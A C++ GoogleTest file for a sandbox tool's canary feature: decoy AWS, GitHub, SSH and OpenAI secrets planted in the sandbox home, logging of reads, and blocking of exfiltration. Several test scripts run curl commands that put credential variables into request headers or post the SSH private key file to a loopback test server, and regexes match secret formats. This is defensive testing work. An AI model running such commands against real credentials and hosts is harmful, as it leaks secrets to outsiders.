// The policy's canaries under `cordon run`: decoys of the real shapes in the sandbox's
// environment and home (never the host's), new each session; a read of a decoy file is an
// fs.canary event; a decoy sent to an allowed, inspected loopback HTTPS server is refused before
// the server sees the request; network.on_exfil: kill ends the session with 123; `cordon diff`
// never lists a decoy; "canaries": false plants nothing; a granted real file wins.
#include <gmock/gmock.h>
#include <sys/stat.h>

#include <filesystem>
#include <nlohmann/json.hpp>
#include <regex>

#include "tests/launcher/sandbox_fixture.h"
#include "tests/netproxy/fixture.h"

namespace cordon::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

// api.test reaches the loopback HTTPS server (test CA), which logs each request head to reqlog;
// its HTTPS is inspected, so the proxy sees the requests.
class CanaryRun : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(make_test_files(files_));
    reqlog_ = files_ / "reqlog";
    up_ = std::make_unique<Upstreams>(
        std::vector<std::string>{"root=" + files_ / "www", "cert=" + files_ / "srv.pem",
                                 "key=" + files_ / "srv.key", "reqlog=" + reqlog_});
    ASSERT_TRUE(up_->ok());
    ::chmod(files_.path().c_str(), 0755);
    f_.env().push_back("SSL_CERT_FILE=" + files_ / "ca.pem");
    f_.env().push_back("SSL_CERT_DIR=/nonexistent");
  }
  std::string url(const std::string& path) const {
    return "https://api.test:" + std::to_string(up_->port("https")) + path;
  }
  std::string policy(const std::string& extra_network = "", const std::string& top = "") {
    std::string p = files_ / "policy.json";
    write_text(p, R"({"version": 1, )" + top + R"("network": {"allow": ["api.test:)" +
                      std::to_string(up_->port("https")) +
                      R"("], "inspect": ["api.test"], "resolve": {"api.test": "127.0.0.1"})" +
                      extra_network + "}}");
    return p;
  }
  RunResult sh(const std::string& policy_file, const std::string& script,
               std::vector<std::string> flags = {}) {
    RunSpec spec;
    spec.deadline = std::chrono::seconds(90);
    flags.insert(flags.begin(), {"--policy", policy_file});
    return f_.sh(script, flags, spec);
  }
  std::string reqlog() {
    std::error_code ec;
    return std::filesystem::exists(reqlog_, ec) ? read_text(reqlog_) : "";
  }
  std::string last_session_dir() {
    std::string newest;
    std::filesystem::file_time_type t{};
    for (const auto& e : std::filesystem::directory_iterator(f_.state_dir() + "/sessions")) {
      if (e.is_directory() && (newest.empty() || e.last_write_time() > t)) {
        newest = e.path();
        t = e.last_write_time();
      }
    }
    return newest;
  }

  TempDir files_;
  std::string reqlog_;
  std::unique_ptr<Upstreams> up_;
  SandboxFixture f_;
};

// The decoys a session shows, one per line: the two AWS variables, GITHUB_TOKEN, the AWS file,
// the .env file and the public half ssh-keygen derives from the private key file.
constexpr const char* kShowDecoys =
    "printenv AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY GITHUB_TOKEN; cat ~/.aws/credentials ~/.env; "
    "ssh-keygen -y -f ~/.ssh/id_ed25519; stat -c '%a %U' ~/.ssh/id_ed25519";

TEST_F(CanaryRun, DecoysHaveTheRealShapesInsideAndDifferBetweenSessions) {
  auto p = policy();
  auto a = sh(p, kShowDecoys);
  ASSERT_EQ(a.exit_code(), 0) << a.out << a.err;
  std::istringstream lines(a.out);
  std::string id, secret, gh, section, file_id, file_secret, dotenv, pub, owner;
  for (auto* s : {&id, &secret, &gh, &section, &file_id, &file_secret, &dotenv, &pub, &owner}) {
    std::getline(lines, *s);
  }
  EXPECT_TRUE(std::regex_match(id, std::regex("AKIA[A-Z0-9]{16}"))) << id;
  EXPECT_TRUE(std::regex_match(secret, std::regex("[A-Za-z0-9/+]{40}"))) << secret;
  EXPECT_TRUE(std::regex_match(gh, std::regex("ghp_[A-Za-z0-9]{36}"))) << gh;
  EXPECT_EQ(section, "[default]");
  EXPECT_EQ(file_id, "aws_access_key_id = " + id);
  EXPECT_EQ(file_secret, "aws_secret_access_key = " + secret);
  EXPECT_TRUE(std::regex_match(dotenv, std::regex("OPENAI_API_KEY=sk-proj-[A-Za-z0-9]{48}")))
      << dotenv;
  EXPECT_TRUE(std::regex_match(pub, std::regex("ssh-ed25519 [A-Za-z0-9+/]{68} deploy@build-01")))
      << pub << a.err;
  EXPECT_EQ(owner.substr(0, 4), "600 ");
  // Never in the host's home.
  EXPECT_FALSE(std::filesystem::exists(f_.home() + "/.aws"));
  EXPECT_FALSE(std::filesystem::exists(f_.home() + "/.ssh"));
  EXPECT_FALSE(std::filesystem::exists(f_.home() + "/.env"));
  // A second session gets its own.
  auto b = sh(p, kShowDecoys);
  ASSERT_EQ(b.exit_code(), 0) << b.err;
  EXPECT_THAT(b.out, Not(HasSubstr(id)));
  EXPECT_THAT(b.out, Not(HasSubstr(gh)));
  EXPECT_THAT(b.out, Not(HasSubstr(pub.substr(12, 40))));
}

TEST_F(CanaryRun, ReadingADecoyFileIsAnFsCanaryEventAndTheSummaryNamesIt) {
  auto p = policy();
  RunSpec spec;
  spec.deadline = std::chrono::seconds(90);
  auto r = f_.run({"--policy", p, "--mode", writable_mode()},
                  {"/bin/sh", "-c", "cat ~/.aws/credentials > /dev/null; echo $HOME"}, spec);
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  const std::string home = r.out.substr(0, r.out.find('\n'));
  EXPECT_THAT(r.err, HasSubstr("canaries: aws (AWS_ACCESS_KEY_ID/AWS_SECRET_ACCESS_KEY, "
                               "~/.aws/credentials)"));
  EXPECT_THAT(r.err, HasSubstr("ALERT: canary touched: aws"));
  // Two records: the kernel's (every open, no process) and the shim's (the process).
  auto ev = f_.last_events("fs.canary");
  ASSERT_EQ(ev.size(), 2u) << f_.cordon_out({"log", "last", "--json"});
  for (const auto& e : ev) {
    EXPECT_EQ(e.value("canary", ""), "aws");
    EXPECT_EQ(e.value("path", ""), home + "/.aws/credentials");
  }
  const auto& kernel = ev[0].value("source", "") == "launcher" ? ev[0] : ev[1];
  const auto& shim = ev[0].value("source", "") == "shim" ? ev[0] : ev[1];
  EXPECT_EQ(kernel.value("via", ""), "inotify");
  EXPECT_FALSE(kernel.contains("pid"));
  EXPECT_EQ(shim.value("source", ""), "shim");
  EXPECT_EQ(shim.value("exe", ""), "/usr/bin/cat");
  EXPECT_EQ(shim["argv"], nlohmann::json::array({"cat", home + "/.aws/credentials"}));
  EXPECT_GT(shim.value("pid", 0), 0);
  auto end = f_.last_events("session.end");
  ASSERT_EQ(end.size(), 1u);
  EXPECT_EQ(end[0]["canaries_touched"], nlohmann::json::array({"aws"}));
  EXPECT_THAT(f_.cordon_out({"log", "last"}), HasSubstr("fs.canary"));
  // A session that reads none has none, though it opens files of the decoys' names.
  auto quiet = sh(p,
                  "ls ~/.aws >/dev/null; test -f ~/.ssh/id_ed25519; mkdir /tmp/x; "
                  "echo a > /tmp/x/credentials; cat /tmp/x/credentials /tmp/x/credentials; "
                  "echo b > /tmp/x/.env; cat /tmp/x/.env >/dev/null");
  ASSERT_EQ(quiet.exit_code(), 0) << quiet.err;
  EXPECT_EQ(f_.last_events("fs.canary").size(), 0u);
}

TEST_F(CanaryRun, TheAwsKeySentAnywhereIsRefusedLoggedByNameAndNeverArrives) {
  auto p = policy();
  auto r = sh(p, "curl -sS -w ' %{http_code}\\n' -H \"X-Key: $AWS_ACCESS_KEY_ID\" " +
                     url("/hello.txt") + "; curl -sS -w ' %{http_code}\\n' --data-binary @" +
                     "$HOME/.ssh/id_ed25519 " + url("/hello.txt") + "; curl -sS " +
                     url("/hello.txt") + "; printenv AWS_ACCESS_KEY_ID");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  std::string id = r.out.substr(r.out.rfind('\n', r.out.size() - 2) + 1);
  id.pop_back();
  ASSERT_TRUE(std::regex_match(id, std::regex("AKIA[A-Z0-9]{16}"))) << r.out;
  EXPECT_EQ(r.out,
            "cordon: GET to api.test refused: its header x-key carries the aws canary, a decoy "
            "secret that goes nowhere (canaries)\n 403\n"
            "cordon: POST to api.test refused: its body carries the ssh canary, a decoy secret "
            "that goes nowhere (canaries)\n 403\n"
            "hello through cordon\n" +
                id + "\n");
  const std::string seen = reqlog();
  EXPECT_THAT(seen, Not(HasSubstr(id)));
  EXPECT_THAT(seen, Not(HasSubstr("X-Key")));
  EXPECT_THAT(seen, Not(HasSubstr("POST")));
  EXPECT_THAT(seen, HasSubstr("GET /hello.txt"));
  auto exfil = f_.last_events("net.exfil");
  ASSERT_EQ(exfil.size(), 2u);
  EXPECT_EQ(exfil[0].value("canary", ""), "aws");
  EXPECT_EQ(exfil[0].value("channel", ""), "header x-key");
  EXPECT_EQ(exfil[1].value("canary", ""), "ssh");
  EXPECT_EQ(exfil[1].value("channel", ""), "body");
  // cordon's own records name the canary only (proc.exec and net.attribution keep the argv
  // curl was given, which holds it).
  for (const char* kind : {"net.exfil", "fs.canary", "session.end"}) {
    for (const auto& e : f_.last_events(kind)) {
      EXPECT_THAT(e.dump(), Not(HasSubstr(id))) << kind;
    }
  }
  EXPECT_THAT(f_.cordon_out({"log", "last", "--net"}), Not(HasSubstr(id)));
  EXPECT_THAT(f_.cordon_out({"log", "last", "--net"}),
              HasSubstr("net.exfil: the aws canary in its header x-key"));
}

TEST_F(CanaryRun, OnExfilKillEndsTheSessionWith123) {
  auto p = policy(R"(, "on_exfil": "kill")");
  RunSpec spec;
  spec.deadline = std::chrono::seconds(90);
  const auto t0 = std::chrono::steady_clock::now();
  auto r = f_.run(
      {"--policy", p, "--mode", writable_mode()},
      {"/bin/sh", "-c",
       "curl -sS -H \"X-Key: $GITHUB_TOKEN\" " + url("/hello.txt") + "; sleep 30; echo survived"},
      spec);
  EXPECT_EQ(r.exit_code(), 123) << r.out << r.err;
  EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(25));
  EXPECT_THAT(r.out, Not(HasSubstr("survived")));
  EXPECT_THAT(r.err, HasSubstr("killed: a secret or canary was sent toward a host it is not "
                               "bound to and network.on_exfil is kill (exit 123)"));
  EXPECT_THAT(r.err, HasSubstr("ALERT: canary touched: github"));
  auto end = f_.last_events("session.end");
  ASSERT_EQ(end.size(), 1u);
  EXPECT_EQ(end[0].value("ended_by", ""), "network.on_exfil");
  EXPECT_EQ(end[0].value("exit_code", 0), 123);
  // Without it the same request is refused and the program goes on.
  auto refuse = sh(policy(), "curl -sS -o /dev/null -H \"X-Key: $GITHUB_TOKEN\" " +
                                 url("/hello.txt") + "; echo survived");
  EXPECT_EQ(refuse.exit_code(), 0);
  EXPECT_EQ(refuse.out, "survived\n");
}

TEST_F(CanaryRun, DiffNeverListsADecoyAndACopyIsTheProgramsOwnFile) {
  auto p = policy();
  RunSpec spec;
  spec.deadline = std::chrono::seconds(90);
  auto r = f_.run({"-q", "--policy", p, "--mode", "cow"},
                  {"/bin/sh", "-c",
                   "cat ~/.aws/credentials ~/.ssh/id_ed25519 ~/.env >/dev/null; "
                   "cp ~/.env copied.env"},
                  spec);
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  const std::string diff = f_.cordon_out({"diff", "last"});
  EXPECT_THAT(diff, HasSubstr("copied.env"));
  EXPECT_THAT(diff, Not(HasSubstr("credentials")));
  EXPECT_THAT(diff, Not(HasSubstr("id_ed25519")));
  EXPECT_THAT(diff, Not(HasSubstr(".aws")));
  EXPECT_FALSE(std::filesystem::exists(f_.ws() + "/copied.env"));  // nothing until commit
  // The decoy files were never on the host; only their names are in the record.
  EXPECT_FALSE(std::filesystem::exists(last_session_dir() + "/decoys"));
}

// A decoy is an ordinary file of the home: no variable, mount or path in the sandbox tells the
// program which files are decoys, and nothing of them is on the host.
TEST_F(CanaryRun, NothingInTheSandboxTellsADecoyApart) {
  auto p = policy();
  auto r = sh(p,
              "env; echo ===; cat /proc/self/mountinfo; echo ===; "
              "stat -c '%m %U %a' ~ ~/.aws ~/.aws/credentials ~/.ssh ~/.ssh/id_ed25519 ~/.env; "
              "echo tamper >> ~/.env && echo writable");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  const size_t a = r.out.find("===\n"), b = r.out.find("===\n", a + 4);
  ASSERT_NE(b, std::string::npos) << r.out;
  const std::string env = r.out.substr(0, a), mounts = r.out.substr(a + 4, b - a - 4);
  for (const char* tell : {"DECOY", "decoy", "CANARY", "canary", ".aws", "id_ed25519", ".env"}) {
    EXPECT_THAT(env, Not(HasSubstr(tell))) << tell;
    EXPECT_THAT(mounts, Not(HasSubstr(tell))) << tell;
  }
  std::istringstream st(r.out.substr(b + 4));
  std::string home_line, line;
  std::getline(st, home_line);
  const std::string home_mount = home_line.substr(0, home_line.find(' '));
  const std::string user =
      home_line.substr(home_mount.size() + 1, home_line.rfind(' ') - home_mount.size() - 1);
  const char* modes[] = {"755", "600", "700", "600", "600"};
  for (const char* mode : modes) {
    ASSERT_TRUE(std::getline(st, line)) << r.out;
    // On the home's own filesystem, the sandbox user's, as a real file would be.
    EXPECT_EQ(line, home_mount + " " + user + " " + mode) << r.out;
  }
  ASSERT_TRUE(std::getline(st, line));
  EXPECT_EQ(line, "writable");
  EXPECT_FALSE(std::filesystem::exists(last_session_dir() + "/decoys"));
}

TEST_F(CanaryRun, CanariesFalsePlantsNothing) {
  auto p = policy("", R"("canaries": false, )");
  auto r = sh(p, "ls -A ~; printenv AWS_ACCESS_KEY_ID GITHUB_TOKEN || echo none");
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_EQ(r.out, "none\n");
  EXPECT_THAT(f_.cordon_out({"policy", "explain", p}),
              HasSubstr("canaries: none planted (canaries: false)"));
}

TEST_F(CanaryRun, AGrantedRealFileWinsAndTheStartLineSaysSo) {
  if (::geteuid() == 0) {
    // As root "~" is the sandbox user's passwd home (nobody's, or root's for an id without an
    // entry), never the fixture's $HOME, and the test may not write there.
    GTEST_SKIP() << "needs a rootless run, where \"~\" is $HOME (run as cordon-test/cordon-fuse)";
  }
  std::filesystem::create_directories(f_.home() + "/.aws");
  write_text(f_.home() + "/.aws/credentials", "real credentials\n", 0644);
  ::chmod(f_.home().c_str(), 0755);
  ::chmod((f_.home() + "/.aws").c_str(), 0755);
  std::string p = files_ / "policy.json";
  // ~/.aws is in the default filesystem.deny: a policy that shows it says so.
  write_text(
      p, R"({"version": 1, "canaries": ["aws"], "filesystem": {"read": ["~/.aws"], "deny": []}})");
  RunSpec spec;
  spec.deadline = std::chrono::seconds(90);
  auto r = f_.run({"--policy", p, "--mode", writable_mode()},
                  {"/bin/sh", "-c", "cat ~/.aws/credentials; printenv AWS_ACCESS_KEY_ID"}, spec);
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_TRUE(std::regex_search(r.out, std::regex("^real credentials\nAKIA[A-Z0-9]{16}\n$")))
      << r.out;
  EXPECT_THAT(r.err, HasSubstr("canaries: ~/.aws/credentials not planted: the real " + f_.home() +
                               "/.aws the policy grants is shown there"));
  EXPECT_EQ(f_.last_events("fs.canary").size(), 0u);
}

}  // namespace
}  // namespace cordon::testing
